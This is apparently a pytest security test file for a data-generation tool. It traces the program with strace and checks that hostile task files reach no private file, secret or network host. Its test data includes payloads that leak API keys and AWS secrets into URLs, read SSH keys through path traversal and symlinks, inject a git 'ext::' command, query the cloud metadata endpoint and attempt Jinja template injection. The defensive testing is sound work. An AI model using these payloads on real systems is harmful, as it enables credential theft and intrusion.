"""What hostile tasks make the program do, seen from below it: no file, host or program that was not announced."""

from __future__ import annotations

import json
import os
import site
import sys
from pathlib import Path

import pytest
from hostile import KNOWLEDGE, ROWS, SECRETS, collector
from traced import Traced, can_trace, traced

pytestmark = pytest.mark.skipif(not can_trace(), reason="strace is not there, or may not trace")

ROOT = Path(__file__).parents[2]
SECRET = "the content of a private file 4411"
# Python, its packages, this checkout, and what the system's own libraries look at
OF_THE_PROGRAM = tuple(
    {str(ROOT), sys.prefix, sys.base_prefix, *site.getsitepackages(), "/usr", "/lib", "/lib64", "/etc", "/proc", "/sys"}
)
SKILLS = """
task_name: t
created_by: a stranger
task_description: d
data_builder: skills_sdg
seed_examples:
  - {question: What is it?, answer: A thing.}
"""
PIPE = ROWS.replace("text_generation", "pipeline") + "input: [{a: x}]\n"
HOSTILE = {
    "a key in an address": KNOWLEDGE + 'include: {documents: {n: "URL/a.md?k=$OPENAI_API_KEY"}}\n',
    "a key in a host": KNOWLEDGE + 'knowledge_datastore: {data_path: "URL/${AWS_SECRET_ACCESS_KEY}/a.md", data_format: md}\n',
    "a key in a table's path": ROWS + 'input: {path: "rows/${HF_TOKEN}.jsonl"}\n',
    "a key in a format": SKILLS + 'instruction_format: {leak_path: "${OPENAI_API_KEY}"}\n',
    "a private file as a table": ROWS + "input: ../private/rows.jsonl\n",
    "a private file as a document": KNOWLEDGE + "include: {documents: {n: ../private/*}}\n",
    "a private file by home": KNOWLEDGE + "include: {documents: {n: '${HOME}/.ssh/id'}}\n",
    "a private file by a link": KNOWLEDGE + "include: {documents: {n: linked/rows.jsonl}}\n",
    "a private file as a flow": ROWS.replace("text_generation", "pipeline") + "input: [{a: x}]\nflow: ../private/flow.yaml\n",
    "a private repository": KNOWLEDGE + 'document: {repo: ../private, commit: main, patterns: ["*"]}\n',
    "a repository that is a program": KNOWLEDGE + "document: {repo: 'ext::touch owned', commit: main, patterns: ['*']}\n",
    "a repository of the network": KNOWLEDGE + 'document: {repo: "URL/r.git", commit: main, patterns: ["*.md"]}\n',
    "the metadata of a cloud": KNOWLEDGE + 'include: {documents: {n: "http://169.254.169.254/latest/meta-data"}}\n',
    "results elsewhere": SKILLS + "runner_config: {output_dir: ../private}\n",
    "a template that reaches Python": PIPE + "flow: [{generate: {prompt: \"{{ ''.__class__.__mro__ }}\", into: b}}]\n",
    "a template that includes": PIPE + "flow: [{generate: {prompt: \"{% include '../private/rows.jsonl' %}\", into: b}}]\n",
    "an endpoint of its own": SKILLS + 'runner_config: {base_url: "URL/v1"}\n',
}


def _machine(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A working folder with private files next to it, and the environment of whoever works there."""
    private, work, home = tmp_path / "private", tmp_path / "work", tmp_path / "home"
    for folder in (private, work, home / ".ssh"):
        folder.mkdir(parents=True)
    (private / "rows.jsonl").write_text(json.dumps({"prompt": SECRET, "a": SECRET}) + "\n")
    (private / "flow.yaml").write_text("- {map: {}}\n")
    (home / ".ssh" / "id").write_text(SECRET)
    (work / "linked").symlink_to(private)
    environment = {name: os.environ[name] for name in ("PATH", "LANG", "OPENBLAS_CORETYPE") if name in os.environ}
    environment |= {**SECRETS, "HOME": str(home), "FMS_DGT_CACHE": str(tmp_path / "cache"), "PYTHONDONTWRITEBYTECODE": "1"}
    return work, environment


def _foreign(paths: frozenset[str], *allowed: Path) -> list[str]:
    """Files that belong neither to the program nor below one of the folders."""
    folders = (*OF_THE_PROGRAM, "/dev", *map(str, allowed))
    return sorted(path for path in paths if not any(path == each or path.startswith(f"{each}/") for each in folders))


def _is_python(programs: tuple[str, ...]) -> bool:
    return {Path(name).resolve() for name in programs} == {Path(sys.executable).resolve()}


def _check_calls(seen: Traced, work: Path, tmp_path: Path) -> None:
    private = [path for path in seen.read | seen.written if path.startswith((f"{tmp_path}/private/", f"{tmp_path}/home/"))]
    assert not private
    assert SECRET not in seen.output
    assert not [value for value in SECRETS.values() if value in seen.output]
    assert not seen.connected
    # parents are looked at to find a checkout
    assert not [path for path in _foreign(seen.read, work, tmp_path / "cache") if not str(work).startswith(path)]
    assert not _foreign(seen.written, work / "output", tmp_path / "cache")
    assert _is_python(seen.programs), seen.programs


@pytest.mark.parametrize("task", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_task_reaches_nothing(tmp_path: Path, task: str) -> None:
    work, environment = _machine(tmp_path)
    with collector() as server:
        (work / "task.yaml").write_text(task.replace("URL", server.url))
        given = ["--task-paths", "task.yaml", "--config-path", "offline", "-n", "2"]
        given[-2] = "--num-outputs-to-generate"
        for more in (["--check"], []):
            seen = traced([*given, *more], folder=work, environment=environment, log=tmp_path / "strace.log")
            _check_calls(seen, work, tmp_path)
            assert "Traceback" not in seen.output
            assert "a fault in fms_dgt" not in seen.output
        assert not server.requests


def test_an_honest_task_reads_and_writes_what_was_announced(tmp_path: Path) -> None:
    work, environment = _machine(tmp_path)
    (work / "rows").mkdir()
    (work / "rows" / "rows.jsonl").write_text('{"prompt": "Say hello."}\n{"prompt": "Say goodbye."}\n')
    (work / "task.yaml").write_text(ROWS + "input: rows/rows.jsonl\n")
    given = ["--task-paths", "task.yaml", "--config-path", "offline"]
    checked = traced([*given, "--check", "--json"], folder=work, environment=environment, log=tmp_path / "check.log")
    assert checked.code == 0
    access = json.loads(checked.output[checked.output.index("{") :])["tasks"][0]["access"]
    ran = traced(given, folder=work, environment=environment, log=tmp_path / "run.log")
    assert ran.code == 0
    reads = {str(work / name) for name in access["reads"]}
    below = {path for path in ran.read if Path(path).is_file() and path.startswith(f"{work}/")}
    assert below - reads <= {path for path in below if path.startswith(f"{work}/output/")}
    for seen in (checked, ran):
        _check_calls(seen, work, tmp_path)
